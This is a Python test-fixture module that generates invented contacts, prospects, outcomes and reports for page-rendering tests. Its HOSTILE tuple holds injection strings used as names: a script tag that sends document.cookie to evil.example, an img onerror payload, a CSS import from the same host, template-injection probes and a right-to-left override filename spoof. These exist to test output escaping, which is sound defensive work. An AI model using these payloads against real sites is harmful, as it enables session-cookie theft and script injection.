"""Invented people for the tests of pages: few to read, or as many as the map may show."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

from narrowcast.agent.core import numbers
from narrowcast.agent.core.map_page import Atlas, Known, Sought
from narrowcast.agent.core.model import (
    AddressKey,
    AskId,
    Band,
    Confidence,
    Employment,
    Estimate,
    Introducer,
    Person,
    PersonUid,
    Prospect,
    ProspectId,
    ReasonCode,
    Suggestion,
    Tie,
    Time,
    seconds,
)
from narrowcast.agent.core.outcomes import DAY, Outcome
from narrowcast.agent.core.report_page import Record, Source
from tests.agent.core import letter_samples
from tests.agent.core.letter_samples import NOW, OWNER, reason

HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "</script><img src=https://evil.example/x onerror=alert(1)>",
    '"><style>@import url(https://evil.example/x.css)</style>',
    "{{7*7}} ${8*8} <!-- --> ]]>",
    "محمد بن عبد الله \u202egnp.exe",
    "\U0001f469\u200d\U0001f680 \u738b\u5c0f\u660e",
    "Wolfeschlegelsteinhausenbergerdorff" * 6,
    "Z\u0351\u0352\u0353\u0354\u0355\u0356a\u0351\u0352lgo",
)
_GIVEN = (
    "Ana", "Ben", "Chidi", "Dora", "Emre", "Fatou", "Goran", "Hana", "Ivo", "Jana", "Kofi", "Lena",
    "Mira", "Nils", "Olu", "Petra",
)  # fmt: skip
_FAMILY = (
    "Ruiz", "Okafor", "Novak", "Lindqvist", "Tanaka", "Moreau", "Silva", "Haddad", "Kovacs",
    "Berg", "Adeyemi", "Rossi",
)  # fmt: skip
_FIRMS = (
    "Harbour", "Lumen", "Quarry", "Sable", "Tern", "Umber", "Vesper", "Willow", "Yarrow", "Zephyr",
)  # fmt: skip
_LOCAL = NOW.astimezone(numbers.zone_of(OWNER))
_BANDS = (Band.STRONG, Band.MODERATE, Band.WEAK)


def name(number: int) -> str:
    """A name of its own for each number up to a few thousand."""
    given, family = _GIVEN[number % 16], _FAMILY[(number // 16) % 12]
    return f"{given} {family}{'' if number < 192 else f' {number // 192 + 1}'}"


def firm(number: int) -> str:
    """A tenth of all work at one of ten large firms, the others with one or two more."""
    return _FIRMS[number % 10] if number % 3 == 0 else f"{_FIRMS[number % 10]} {number // 2} Ltd"


def introducer(number: int, called: str = "") -> Introducer:
    job = Employment(
        organization=firm(number),
        titles=("Head of Operations",),
        first_seen=Time(0),
        last_seen=seconds(NOW),
        current=True,
        confidence=Confidence.LIKELY,
    )
    person = Person(
        uid=PersonUid(f"u{number}"),
        name=called or name(number),
        addresses=(AddressKey(f"p{number}@firm.example"),),
        employments=(job,),
    )
    share = 0.1 + (number * 7 % 60) / 100
    return letter_samples.introducer(
        letter_samples.MET_TOGETHER,
        reason(ReasonCode.REPLIES, "answered 9 of your last 14 mails"),
        reason(ReasonCode.BROUGHT_IN, f"{called or name(number)} has introduced 7 people to you"),
        reason(ReasonCode.SILENT, "you last wrote to each other 40 days ago", favours=False),
        person=person,
        tie=_tie(number),
        link=0.2 + (number * 3 % 80) / 100,
        chance=Estimate(share, share / 2, min(0.9, share * 1.4)),
    )


def _tie(number: int) -> Tie:
    last = seconds(NOW - timedelta(days=number % 300))
    band = _BANDS[number % 3]
    return Tie(strength=3.0, band=band, sent=40, received=50, met=3, first=Time(0), last=last)


def atlas(people: int = 40, prospects: int = 6, *, hostile: bool = False) -> Atlas:
    """A map of *people* and *prospects*; each sixth of these has no path."""

    def called(number: int) -> str:
        return HOSTILE[number % len(HOSTILE)] if hostile else name(number)

    few = people <= 160 and prospects <= 30  # then there are names left without a number
    leading = max(1, min(people, prospects * 2))
    wanted = []
    for number in range(prospects):
        ways = [
            introducer((number * 2 + n) % leading, called((number * 2 + n) % leading))
            for n in range(3)
        ]
        barren = number % 6 == 5
        about = Prospect(
            id=ProspectId(number + 1),
            name=called(number + 3) if hostile else name((160 if few else 3_000) + number),
            organization=called(number + 1) if hostile else firm(number + 7),
            title="Chief Buyer",
        )
        unique = tuple({one.person.uid: one for one in ways}.values())
        found = Suggestion(
            prospect=about,
            as_of=NOW,
            introducers=() if barren else unique,
            abstained="no good path: nothing in your mail shows one" if barren else "",
            next_step="ask your strongest contacts" if barren else "",
        )
        wanted.append(Sought(found=found, firm=about.organization))
    known = (
        Known(
            key=f"u{number}",
            name=called(number),
            handle=f"p{number}@firm.example",
            firm=called(number + 2) if hostile else firm(number),
            band=_BANDS[number % 3],
            tie="50 received, 40 sent, 3 meetings; last Oct 2026",
            rank=1_000.0 - number,
        )
        for number in range(people)
    )
    return Atlas(owner=OWNER, now=_LOCAL, people=tuple(known), sought=tuple(wanted))


def outcomes(count: int = 24) -> Iterator[Outcome]:
    """Asks of the last ten months that came to every end."""
    for number in range(count):
        sent = seconds(NOW) - (number * 12 + 2) * DAY
        agreed = Time(sent + 2 * DAY) if number % 2 == 0 else None
        introduced = Time(sent + (3 + number) * DAY) if number % 4 == 0 else None
        declined = Time(sent + DAY) if number % 6 == 1 else None
        silent = Time(sent + 21 * DAY) if number > 3 else None
        yield Outcome(
            ask=AskId(number + 1),
            introducer=PersonUid(f"u{number % 5}"),
            purpose="",
            sent=Time(sent),
            agreed=agreed,
            introduced=introduced,
            met=introduced if number % 8 == 0 else None,
            declined=declined,
            settled=agreed or declined or silent,
        )


def record(*, asks: int = 24, hostile: bool = False) -> Record:
    """A report of some months of asking."""
    mapped = atlas(40, 12, hostile=hostile)
    last = seconds(NOW - timedelta(hours=3))
    return Record(
        owner=OWNER,
        now=_LOCAL,
        known=tuple(outcomes(asks)),
        names={PersonUid(f"u{n}"): HOSTILE[n] if hostile else name(n) for n in range(5)},
        wanted=tuple(one.found for one in mapped.sought),
        sources=(
            Source(name="mail: INBOX", records=12_345, last_ok=last, problem=""),
            Source(name="calendar", records=410, last_ok=Time(last - 9 * DAY), problem=""),
            Source(name=HOSTILE[0] if hostile else "cards", records=0, last_ok=None, problem=""),
            Source(name="old", records=3, last_ok=last, problem="needs a new login: run connect"),
        ),
        newest=seconds(datetime(2026, 11, 3, 6, tzinfo=UTC)),
    )
